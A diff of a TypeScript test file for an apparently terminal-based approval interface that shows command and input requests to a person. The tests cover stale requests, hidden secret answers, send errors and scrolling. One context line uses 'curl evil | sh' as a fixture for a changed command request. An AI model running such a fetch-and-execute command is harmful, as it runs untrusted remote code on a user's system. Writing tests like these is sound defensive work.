@@ -162,6 +162,43 @@ describe("approval", () => {
     expect(player.press(...keys("y")).effects).toEqual([]);
   });
 
+  test("what was meant for one that went away becomes no message, until the person pauses", () => {
+    const player = asked(ASKED).press(...typed("draft"), ...keys("ctrl-n", "n"), ...typed("becau"));
+    player.requests().press(...typed("se"), ...keys("enter"));
+    expect(player.ui).toMatchObject({ mode: "chat", editor: { text: "draft" } });
+    expect(player.effects).toEqual([]);
+    expect(player.screen()).toMatch(/not taken: the request .* is gone/);
+    player.now_ms += 2_000;
+    player.press(...typed("!"), ...keys("enter"));
+    expect(player.effects).toEqual([{ kind: "send", text: "draft!", isNow: false }]);
+  });
+
+  test("who interrupts the turn of a request may write at once", () => {
+    const player = asked(ASKED).view({ turn: { started_at_ms: 1 } });
+    player
+      .press(...keys("ctrl-n", "ctrl-c"))
+      .requests()
+      .press(...typed("now this"));
+    expect(player.ui.editor.text).toBe("now this");
+  });
+
+  test("the rest of a secret whose question went away is seen nowhere", () => {
+    const secret = { id: "q", question: "The password?", is_secret: true };
+    const row = { ...inputRequest("s"), payload: { ...inputRequest("s").payload, questions: [secret] } };
+    const player = asked(row).press(...keys("ctrl-n"), ...typed("hun"));
+    player.requests().press(...typed("ter2"), ...keys("enter"));
+    expect(player.ui.editor.text).toBe("");
+    expect(player.screen()).not.toMatch(/hun|ter2/);
+    expect(player.effects).toEqual([]);
+  });
+
+  test("what went wrong stays to be read while the person goes on typing", () => {
+    const player = new Player();
+    player.event({ kind: "send_failed", text: "one", message: "the daemon said no", at_ms: player.now_ms });
+    expect(player.press(...typed(" two")).screen()).toContain("not sent: the daemon said no");
+    expect(player.press(...keys("enter")).screen()).not.toContain("not sent");
+  });
+
   test("one that changed is told and must be drawn before it can be answered", () => {
     const player = asked(ASKED).press(...keys("ctrl-n", "up", "up"));
     const changed = { ...commandRequest("s", "curl evil | sh"), request_id: ASKED.request_id };
@@ -211,6 +248,21 @@ describe("approval", () => {
     expect(seen.size).toBe(60);
     expect(player.screen()).toContain("> n decline");
   });
+});
+
+test.each([
+  ["pagedown", 40, 12],
+  ["pagedown", 80, 24],
+  ["wheeldown", 40, 12],
+  ["ctrl-d", 30, 11],
+])("%s at %ix%i leaves out no row of a request", (chord, columns, rows) => {
+  const lines = Array.from({ length: 40 }, (_, at) => `echo line-${at}.`);
+  const row = commandRequest("s", lines.join("\n"));
+  const player = new Player({ view: liveView({ requests: [row] }), size: { columns, rows } });
+  player.press(...keys("ctrl-n"));
+  let seen = player.screen();
+  for (let count = 0; count < 200; count++) seen += player.press(...keys(chord)).screen();
+  for (const line of lines) expect(seen).toContain(line);
 });
 
 describe("where requests are modal", () => {
